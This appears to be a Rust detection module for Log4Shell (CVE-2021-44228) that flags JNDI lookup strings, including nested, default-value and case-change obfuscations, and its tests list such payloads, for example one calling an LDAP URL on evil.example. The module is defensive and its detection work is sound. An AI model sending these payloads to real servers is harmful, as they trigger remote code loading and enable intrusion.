//! Log4Shell (CVE-2021-44228): `${jndi:…}` lookups, including the obfuscations scanners use —
//! nested lookups (`${${lower:j}ndi:`), defaults (`${::-j}`, `${env:X:-j}`), case changes
//! and `${ctx:…}`/`${env:…}` probes.

/// How far (in bytes) after `${` a nested `${` still counts as obfuscation rather than two
/// separate template placeholders; the same window CRS rule 944150 uses.
const NESTED_WINDOW: usize = 15;

/// Checks one decoded value.
pub(crate) fn check(value: &[u8]) -> bool {
    let Some(first) = value.windows(2).position(|w| w == b"${") else {
        return false;
    };
    let lower: Vec<u8> = value[first..].iter().map(u8::to_ascii_lowercase).collect();
    if lookup_opens_with_jndi(&lower) {
        return true;
    }
    let resolved = resolve_lookups(&lower);
    lookup_opens_with_jndi(&resolved)
}

/// `${` directly followed (spaces allowed) by `jndi:`, or a nested `${` within
/// [`NESTED_WINDOW`] bytes before the lookup closes: benign templates (`${name}`) never nest.
fn lookup_opens_with_jndi(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s[from..].windows(2).position(|w| w == b"${") {
        let start = from + p + 2;
        let body = s[start..].trim_ascii_start();
        if body.starts_with(b"jndi") {
            return true;
        }
        let window = &s[start..(start + NESTED_WINDOW).min(s.len())];
        let close = window
            .iter()
            .position(|&b| b == b'}')
            .unwrap_or(window.len());
        if window[..close].windows(2).any(|w| w == b"${") {
            return true;
        }
        from = start;
    }
    false
}

/// Evaluates the lookups log4j would resolve without side effects, innermost first:
/// `${lower:x}`/`${upper:x}` → `x`, `${anything:-x}` → `x` (the default), so
/// `${${::-j}${lower:N}di:` becomes `${jndi:`. Bounded passes: each removes one level.
fn resolve_lookups(s: &[u8]) -> Vec<u8> {
    let mut cur = s.to_vec();
    for _ in 0..8 {
        let mut out = Vec::with_capacity(cur.len());
        let mut changed = false;
        let mut i = 0;
        while i < cur.len() {
            if cur[i] == b'$' && cur.get(i + 1) == Some(&b'{') {
                // An innermost lookup: no `${` before its `}`.
                let body_start = i + 2;
                if let Some(len) = cur[body_start..].iter().position(|&b| b == b'}') {
                    let body = &cur[body_start..body_start + len];
                    if !body.windows(2).any(|w| w == b"${")
                        && let Some(value) = evaluate(body)
                    {
                        out.extend_from_slice(value);
                        i = body_start + len + 1;
                        changed = true;
                        continue;
                    }
                }
            }
            out.push(cur[i]);
            i += 1;
        }
        cur = out;
        if !changed {
            break;
        }
    }
    cur
}

/// The value of a side-effect-free lookup body, or `None` to keep it (e.g. `jndi:…`).
fn evaluate(body: &[u8]) -> Option<&[u8]> {
    if let Some(p) = body.windows(2).position(|w| w == b":-") {
        return Some(&body[p + 2..]);
    }
    for prefix in [&b"lower:"[..], b"upper:"] {
        if let Some(rest) = body.strip_prefix(prefix) {
            return Some(rest);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_and_obfuscated_jndi_lookups() {
        for v in [
            "${jndi:ldap://evil.example/a}",
            "${JNDI:rmi://x}",
            "${ jndi:dns://x}",
            "${${lower:j}ndi:ldap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}",
            "${${upper:j}${lower:N}di:x}",
            "prefix ${jndi:ldap://x} suffix",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:x}",
        ] {
            assert!(check(v.as_bytes()), "{v}");
        }
    }

    #[test]
    fn templates_and_prices_are_clean() {
        for v in [
            "Hello ${name}, your order ${order_id} shipped",
            "costs $5 {approx}",
            "${HOME}/bin",
            "jndi is a Java API",
        ] {
            assert!(!check(v.as_bytes()), "{v}");
        }
    }
}
